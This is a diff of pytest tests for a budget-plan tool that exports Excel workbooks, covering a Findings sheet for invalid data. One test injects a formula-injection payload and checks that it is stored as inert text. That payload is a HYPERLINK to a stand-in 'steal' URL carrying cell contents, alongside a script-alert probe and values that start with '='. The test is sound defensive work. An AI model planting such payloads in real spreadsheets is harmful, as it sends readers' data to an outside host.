@@ -15,7 +15,7 @@ import pytest
 from openpyxl import load_workbook
 from typer.testing import CliRunner
 
-from conftest import DATA, EXAMPLES, Edit, FolderCopy, csplan
+from conftest import DATA, EXAMPLES, Edit, FolderCopy, csp302_folder, csplan
 from csplan import validate_plan
 from csplan.cli import app
 from csplan.position import position
@@ -170,3 +170,65 @@ def test_a_position_without_a_programme_year_gets_no_programme_sheet(folder_copy
     assert found.programme.years == []
     write_workbook(tmp_path / "empty.xlsx", found)
     assert load_workbook(tmp_path / "empty.xlsx").sheetnames == ["Savings", "Pressures", "Budget variance", "Summary"]
+
+
+# -- a workbook written from data with errors says so ----------------------------------------
+
+
+def test_data_with_errors_gets_a_findings_sheet_and_a_summary_line(folder_copy: FolderCopy, tmp_path: Path) -> None:
+    folder = csp302_folder(folder_copy)
+    out = tmp_path / "errors.xlsx"
+    result = csplan(folder, "export", str(out))
+    assert result.exit_code == 1, result.output  # written, and 1, as before
+    assert "error CSP302" in result.stderr
+    book = load_workbook(out)
+    assert book.sheetnames == ["Savings", "Pressures", "Budget variance", "Summary", "Programme", "Findings"]
+    summary = book["Summary"]
+    assert summary["A2"].value == "The data has 1 error: its figures may not agree (see the Findings sheet)"
+    assert summary["A2"].font.b and summary["A3"].value == "Year"
+    findings = [list(row) for row in book["Findings"].iter_rows(values_only=True)]
+    assert findings == [
+        ["Code", "Severity", "File", "Line", "Column", "Message", "Hint"],
+        [
+            "CSP302",
+            "error",
+            str(folder / "budget_2025_26.yaml"),
+            24,
+            12,
+            f"includes.savings is £3.258m but {folder / 'savings.yaml'}:86 states £3,225,000 (difference £0.033m)",
+            "make includes.savings equal the savings total, or correct that file",
+        ],
+    ]
+    assert book["Findings"].print_title_rows == "$1:$1"  # printed like every other sheet
+    # the figures are still those of the data: the Summary's target is the Savings total, £3,225,000
+    target = next(row[1] for row in summary.iter_rows(values_only=True) if row[0] == "Savings target")
+    total = book["Savings"][target.removeprefix("=Savings!")].value
+    assert sheet_sum(book["Savings"], total) == Decimal(3225000)
+
+
+def test_clean_data_gets_neither(tmp_path: Path) -> None:
+    book = load_workbook(export(tmp_path))
+    assert "Findings" not in book.sheetnames and book["Summary"]["A2"].value == "Year"
+
+
+def test_a_finding_is_text_in_the_workbook(folder_copy: FolderCopy, tmp_path: Path) -> None:
+    from csplan.findings import error, warning
+
+    plan, _ = validate_plan(folder_copy(DATA))
+    hostile = '=HYPERLINK("http://example.invalid/steal?d="&A1,"details")<script>alert(1)</script>'
+    findings = [error("CSP302", "=A1.yaml", 3, None, hostile, "+1"), warning("CSP404", "savings.yaml", 4, 5, "-2")]
+    write_workbook(tmp_path / "hostile.xlsx", position(plan), findings=findings)
+    book = load_workbook(tmp_path / "hostile.xlsx")
+    rows = list(book["Findings"].iter_rows(min_row=2))
+    assert [[cell.value for cell in row] for row in rows] == [
+        ["CSP302", "error", "=A1.yaml", 3, None, hostile, "+1"],
+        ["CSP404", "warning", "savings.yaml", 4, 5, "-2", None],
+    ]
+    assert {cell.data_type for row in rows for cell in row if isinstance(cell.value, str)} == {"s"}
+    assert not [
+        cell
+        for sheet in book
+        for row in sheet.iter_rows()
+        for cell in row
+        if "HYPERLINK" in str(cell.value) and cell.data_type == "f"
+    ]
